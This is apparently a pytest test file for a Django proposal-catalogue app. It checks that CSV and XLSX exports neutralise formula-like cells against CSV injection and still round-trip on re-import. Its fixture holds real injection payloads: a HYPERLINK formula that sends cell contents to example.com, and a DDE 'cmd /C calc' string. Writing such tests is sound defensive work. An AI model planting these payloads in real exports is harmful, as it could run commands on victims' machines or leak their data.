"""No export carries a formula: the overview page (XLSX and CSV), the admin, export_catalogue and
catalogue_report. A CSV text cell that starts with = + - @ tab or CR gets a leading apostrophe
(OWASP's advice against CSV injection) while numbers stay numbers; an XLSX text is a text cell,
quote-prefixed when it starts like a formula. Re-importing an export still gives the identical
catalogue."""

import csv
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from proposals.models import Catalogue, Proposal, Theme
from proposals.numbers import NumberFormatError, parse_decimal
from proposals.services import export_catalogue_rows, import_catalogue_rows
from proposals.snapshots import catalogue_snapshot
from tests.factories import make_catalogue, make_user
from tests.proposals.test_export_roundtrip import comparable, copy_header

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"Klik")'


def dangerous_catalogue(leading_whitespace=True):
    """Texts that start like formulas everywhere; ``leading_whitespace`` adds a tab and a
    carriage return in front of two of them (the importer trims every cell, so those two
    cannot come back unchanged from any file)."""
    catalogue = make_catalogue(proposals=4, lines=True)
    proposals = {p.code: p for p in catalogue.proposals.all()}
    proposals["1"].title = HYPERLINK
    proposals["2"].title = "@SUM(1+1)*cmd|' /C calc'!A0"
    proposals["3"].title = "-2+3"
    proposals["4"].title = "+45 er ikke et tal, men tekst"
    proposals["1"].description = "\t=1+1" if leading_whitespace else "=1+1"
    proposals["2"].footnote = "\r=1+1" if leading_whitespace else "+1+1"
    proposals["3"].risk_assessment = "'Tis honest"
    proposals["4"].affected_units = "'=allerede med apostrof"
    for proposal in proposals.values():
        proposal.save()
    catalogue.themes.update(title="=Tema")
    proposals["2"].lines.update(text="=SUM(A1:A9)")
    Proposal.objects.filter(pk=proposals["4"].pk).update(code="-X4")
    return catalogue


def assert_no_live_formula_in_csv(text):
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                try:
                    assert parse_decimal(cell) is not None  # only a number may start so
                except NumberFormatError:
                    pytest.fail(f"CSV cell starts like a formula: {cell!r}")
    return rows


def assert_no_formula_in_xlsx(data):
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            xml = archive.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml, name
    sheet = load_workbook(io.BytesIO(data)).active
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                assert cell.data_type in ("s", "inlineStr") and cell.quotePrefix, (cell.coordinate, cell.value)
        rows.append([cell.value for cell in row])
    assert len(rows) > 1
    return rows


# --------------------------------------------------------------------------- the overview page


@pytest.fixture
def user_client(client):
    # A reader who may see every catalogue (who sees what: test_access_matrix.py).
    client.force_login(make_user(is_superuser=True))
    return client


def page_export(client, catalogue, fmt):
    response = client.get(reverse("proposals:catalogue_detail", args=[catalogue.slug]) + f"?_export={fmt}")
    assert response.status_code == 200
    return response.content


def test_page_xlsx_writes_a_title_that_starts_with_equals_as_text(user_client):
    catalogue = dangerous_catalogue()
    rows = assert_no_formula_in_xlsx(page_export(user_client, catalogue, "xlsx"))
    assert HYPERLINK in [row[1] for row in rows]
    assert rows[1][3:7] == [-1000, -1000, -1000, -1000]  # figures stay number cells


def test_page_csv_neutralises_text_but_not_numbers(user_client):
    catalogue = dangerous_catalogue()
    rows = assert_no_live_formula_in_csv(page_export(user_client, catalogue, "csv").decode("utf-8"))
    by_code = {r[0]: r for r in rows[1:5]}
    assert by_code["1"][1] == "'" + HYPERLINK
    assert by_code["1"][2] == "'=Tema"
    assert by_code["'-X4"][1] == "'+45 er ikke et tal, men tekst"
    assert by_code["1"][3:7] == ["-1.000"] * 4  # a negative figure stays a number


# --------------------------------------------------------------------------- admin


@pytest.fixture
def admin_client(client):
    user = get_user_model().objects.create_superuser("admin", "admin@example.dk", "pw-123456")
    client.force_login(user)
    return client


def test_admin_exports_carry_no_formula(admin_client):
    catalogue = dangerous_catalogue()
    url = reverse("admin:proposals_catalogue_export", args=[catalogue.pk, "csv"])
    rows = assert_no_live_formula_in_csv(admin_client.get(url).content.decode("utf-8"))
    assert "'" + HYPERLINK in [r[3] for r in rows]
    url = reverse("admin:proposals_catalogue_export", args=[catalogue.pk, "xlsx"])
    rows = assert_no_formula_in_xlsx(admin_client.get(url).content)
    assert HYPERLINK in [r[3] for r in rows]
    response = admin_client.post(
        reverse("admin:proposals_catalogue_changelist"),
        {"action": "export_xlsx", "_selected_action": [catalogue.pk]},
    )
    assert response.status_code == 200
    assert_no_formula_in_xlsx(response.content)


# --------------------------------------------------------------------------- command line


def test_cli_exports_carry_no_formula(tmp_path, capsys):
    catalogue = dangerous_catalogue()
    call_command("export_catalogue", catalogue.slug, str(tmp_path / "k.csv"))
    assert_no_live_formula_in_csv((tmp_path / "k.csv").read_bytes().decode("utf-8"))
    call_command("export_catalogue", catalogue.slug, str(tmp_path / "k.xlsx"))
    assert_no_formula_in_xlsx((tmp_path / "k.xlsx").read_bytes())
    out = io.StringIO()
    call_command("export_catalogue", catalogue.slug, "-", stdout=out)
    assert_no_live_formula_in_csv(out.getvalue())
    out = io.StringIO()
    call_command("catalogue_report", catalogue.slug, "--format", "csv", stdout=out, stderr=io.StringIO())
    rows = assert_no_live_formula_in_csv(out.getvalue())
    assert "'" + HYPERLINK in [r[1] for r in rows]


# --------------------------------------------------------------------------- round trip


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_dangerous_texts_round_trip_identically(fmt):
    source = dangerous_catalogue(leading_whitespace=False)
    target = copy_header(source, "kopi")
    Theme.objects.create(catalogue=target, title="=Tema", position=1)
    outcome = import_catalogue_rows(target, export_catalogue_rows(source, fmt), fmt, dry_run=False)
    assert outcome.ok, outcome.error_messages()
    assert comparable(catalogue_snapshot(target)) == comparable(catalogue_snapshot(source))
    again = import_catalogue_rows(target, export_catalogue_rows(target, fmt), fmt, dry_run=False)
    assert again.ok and not again.changed


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_seed_catalogues_with_formula_like_titles_round_trip(fmt):
    call_command("load_seed_catalogues", stdout=io.StringIO())
    for source in Catalogue.objects.all():
        proposals = list(source.proposals.order_by("position")[:3])
        for proposal, prefix in zip(proposals, ("=", "-", "@"), strict=False):
            proposal.title = f"{prefix}{proposal.title}"
            proposal.save()
        target = copy_header(source, f"kopi-{source.slug}"[:80])
        outcome = import_catalogue_rows(target, export_catalogue_rows(source, fmt), fmt, dry_run=False)
        assert outcome.ok, outcome.error_messages()
        assert comparable(catalogue_snapshot(target)) == comparable(catalogue_snapshot(source)), source.slug
